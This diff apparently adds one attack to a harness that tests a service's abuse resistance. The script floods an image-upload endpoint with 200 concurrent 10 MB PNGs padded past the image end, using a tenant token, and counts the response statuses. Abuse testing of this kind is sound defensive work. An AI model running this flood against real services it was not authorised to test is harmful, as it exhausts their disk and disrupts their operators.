@@ -1,0 +1,33 @@
+import { IMAGES } from '../../support/images.ts'
+import type { Attack, Target } from '../define-attack.ts'
+
+const UPLOADS = 200
+/** Just below what one image may have. What comes after the end of a PNG is looked at by nobody. */
+const IMAGE = new Uint8Array(Buffer.concat([IMAGES.png, Buffer.alloc(10 * 1024 * 1024 - 1_024)]))
+
+/** The status of the answer; 0 when there was none. */
+async function upload({ url, tenant, signal }: Target): Promise<number> {
+  const body = new FormData()
+  body.append('image', new Blob([IMAGE]), 'image.png')
+  const headers = { authorization: `Bearer ${tenant.secret}` }
+  try {
+    const response = await fetch(`${url}/uploads/image`, { method: 'POST', headers, body, signal })
+    await response.arrayBuffer()
+    return response.status
+  } catch {
+    return 0
+  }
+}
+
+export const uploadFlood: Attack = {
+  name: 'uploads: 200 images of 10 MB at once',
+  before: '2 GB on disk, and as many again with every minute',
+  run: async (target) => {
+    const statuses = await Promise.all(Array.from({ length: UPLOADS }, () => upload(target)))
+    const counts = Map.groupBy(statuses, (status) => status)
+    return [...counts]
+      .map(([status, all]) => `${all.length} × ${status || 'no answer'}`)
+      .toSorted()
+      .join(', ')
+  },
+}
